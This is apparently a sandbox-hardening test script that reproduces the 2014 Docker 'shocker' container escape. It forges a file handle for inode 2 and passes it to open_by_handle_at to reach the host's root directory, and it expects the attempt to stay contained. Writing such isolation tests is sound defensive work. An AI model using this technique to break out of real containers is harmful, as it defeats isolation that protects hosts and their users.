# The "shocker" escape (Docker, 2014): open_by_handle_at() opens any inode of a filesystem by
# its handle, ignoring the mount it is reached through, so a forged handle for inode 2 (the
# root directory) of the filesystem behind /usr reaches the host's root. Also
# name_to_handle_at() on the workspace and reopening the handle it gave. An escape is a
# descriptor obtained by open_by_handle_at. Expected: CONTAINED.
import ctypes
import os

from common import escape, finish
from proctree import close_quietly, raw

NR_NAME_TO_HANDLE_AT, NR_OPEN_BY_HANDLE_AT, AT_FDCWD = 303, 304, -100
FILEID_INO32_GEN = 1


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint32), ("handle_type", ctypes.c_int32),
                ("f_handle", ctypes.c_ubyte * 128)]


def open_by_handle(what, mount_fd, handle):
    fd, err = raw(NR_OPEN_BY_HANDLE_AT, mount_fd, handle, os.O_RDONLY)
    print(f"open_by_handle_at({what}) = {fd} ({os.strerror(err) if fd < 0 else 'ok'})",
          flush=True)
    if fd >= 0:
        try:
            escape(f"open_by_handle_at opened {what}: {os.listdir(fd)[:5]}")
        except OSError:
            escape(f"open_by_handle_at opened {what}")
        close_quietly(fd)


handle = FileHandle(handle_bytes=128)
mount_id = ctypes.c_int(0)
r, err = raw(NR_NAME_TO_HANDLE_AT, AT_FDCWD, b"/workspace", handle, mount_id, 0)
print(f"name_to_handle_at(/workspace) = {r} ({os.strerror(err) if r < 0 else 'ok'})", flush=True)
usr = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
if r == 0:
    open_by_handle("the workspace's own handle", AT_FDCWD, handle)
forged = FileHandle(handle_bytes=8, handle_type=FILEID_INO32_GEN)
ctypes.memmove(forged.f_handle, (2).to_bytes(4, "little") + (0).to_bytes(4, "little"), 8)
open_by_handle("inode 2 of the filesystem behind /usr", usr, forged)
os.close(usr)
finish()
